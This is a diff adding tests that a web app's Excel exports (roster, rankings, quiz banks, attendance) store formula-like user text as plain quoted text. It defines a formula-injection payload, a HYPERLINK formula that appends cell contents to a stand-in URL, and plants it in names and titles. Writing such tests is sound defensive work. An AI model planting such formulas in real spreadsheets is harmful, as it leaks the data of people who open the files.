@@ -1,0 +1,144 @@
+"""No export holds a formula: names and texts like ``=HYPERLINK(…)`` come out as readable text."""
+
+from __future__ import annotations
+
+import io
+
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from casestudies.exercises.models import Exercise
+from lianbing.accounts.models import User
+from lianbing.campaign.models import Campaign
+from lianbing.errors import Refused
+from lianbing.extensions import db
+from lianbing.files.excel import xlsx_bytes
+from lianbing.ledger.models import ScoreEntry
+from lianbing.rankings import nominations
+from lianbing.rankings.models import Nomination
+from quizzes import exporters, importers
+from quizzes.models import Bank, Question
+from quizzes.play.models import Quiz
+from quizzes.services import to_data
+from training.lectures.models import Lecture
+
+EVIL = '=HYPERLINK("http://x"&A2,"x")'
+STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]
+
+
+def _formulas(data: bytes) -> list[str]:
+    book = load_workbook(io.BytesIO(data))
+    return [
+        f"{sheet.title}!{c.coordinate}={c.value!r}"
+        for sheet in book
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+
+
+def _texts(data: bytes) -> set[str]:
+    book = load_workbook(io.BytesIO(data))
+    return {str(c.value) for s in book for row in s.iter_rows() for c in row if c.value}
+
+
+def test_the_writer_keeps_every_risky_start_as_quoted_text():
+    data = xlsx_bytes({"表": [["名称"], *([s] for s in STARTS), [-3], [EVIL]]})
+    book = load_workbook(io.BytesIO(data))
+    cells = [row[0] for row in book["表"].iter_rows(min_row=2)]
+    assert [c.value for c in cells] == [*STARTS, -3, EVIL]  # the text itself is unchanged
+    assert [c.data_type for c in cells] == ["s"] * len(STARTS) + ["n", "s"]
+    assert all(c.quotePrefix for c in cells if isinstance(c.value, str))
+    assert not _formulas(data)
+
+
+def _plant():
+    """Every user-written text the exports carry, set to a formula."""
+    for i, user in enumerate(db.session.scalars(select(User))):
+        user.display_name = f"{STARTS[i % len(STARTS)]}{EVIL}"[:60]
+    for q in db.session.scalars(select(Question)):
+        q.stem = EVIL
+        q.explanation = "@" + EVIL
+    for model in (Quiz, Exercise, Lecture):
+        for row in db.session.scalars(select(model)):
+            row.title = "+" + EVIL
+    for entry in db.session.scalars(select(ScoreEntry)):
+        entry.title = "-" + EVIL
+    db.session.commit()
+
+
+def _nominate() -> None:
+    """An accepted nomination and its recommendation (the demo has none)."""
+    campaign = db.session.scalar(select(Campaign).where(Campaign.is_active.is_(True)))
+    admin = db.session.scalar(select(User).where(User.username == "admin_441402"))
+    city = db.session.scalar(select(User).where(User.username == "city_admin"))
+    officers = db.session.scalars(
+        select(User).where(User.bureau_id == admin.bureau_id, User.role == "officer")
+    )
+    for officer in officers:
+        try:
+            nom = nominations.nominate(campaign, officer.id, EVIL, admin)
+        except Refused:
+            continue
+        nominations.decide(nom, True, city)
+        nominations.recommend(campaign.id, "county_individual", city, nomination_id=nom.id)
+        db.session.commit()
+        return
+
+
+def _first(model):
+    return db.session.scalar(select(model.id).order_by(model.id))
+
+
+def _export_urls() -> list[str]:
+    ids = {
+        "lecture": _first(Lecture),
+        "bank": _first(Bank),
+        "quiz": _first(Quiz),
+        "exercise": _first(Exercise),
+        "nomination": _first(Nomination),
+    }
+    missing = [k for k, v in ids.items() if v is None]
+    assert not missing, f"the demo has no {missing} to export"
+    return [
+        "/roster/export.xlsx",
+        "/scores/rankings.xlsx",
+        "/scores/recommendations.xlsx",
+        f"/scores/nominations/{ids['nomination']}/record.xlsx",
+        "/training/dashboard.xlsx",
+        f"/training/lectures/{ids['lecture']}/attendance.xlsx",
+        f"/quizzes/banks/{ids['bank']}/export/xlsx",
+        f"/quizzes/manage/{ids['quiz']}/stats.xlsx",
+        f"/casestudies/exercises/{ids['exercise']}/grades.xlsx",
+    ]
+
+
+def test_every_export_writes_planted_formulas_as_text(app, runner, client, session_login):
+    assert runner.invoke(args=["demo"]).exit_code == 0
+    _plant()
+    _nominate()
+    session_login(client, "city_admin")
+    wrong, seen = [], 0
+    for url in _export_urls():
+        r = client.get(url)
+        assert r.status_code == 200, f"{url}: {r.status_code}"
+        formulas = _formulas(r.data)
+        if formulas:
+            wrong.append(f"{url}: {formulas[:3]}")
+        seen += any(EVIL in t for t in _texts(r.data))
+    assert not wrong, "\n".join(wrong)
+    assert seen >= 8, "the planted text should be readable in the exports"
+
+
+def test_bank_export_with_formula_like_text_imports_back_unchanged(app, runner):
+    assert runner.invoke(args=["demo"]).exit_code == 0
+    bank = db.session.scalar(select(Bank).order_by(Bank.id))
+    questions = db.session.scalars(select(Question).where(Question.bank_id == bank.id)).all()
+    for i, q in enumerate(questions):
+        q.stem = f"{STARTS[i % len(STARTS)].strip()}{EVIL}"
+    db.session.commit()
+    export = exporters.EXPORTERS["xlsx"].export([to_data(q) for q in questions])
+    assert not _formulas(export.data)
+    _, parsed = importers.parse_file("bank.xlsx", export.data)
+    stems = sorted(item.data.stem for item in parsed.items if item.data)
+    assert stems == sorted(q.stem for q in questions)
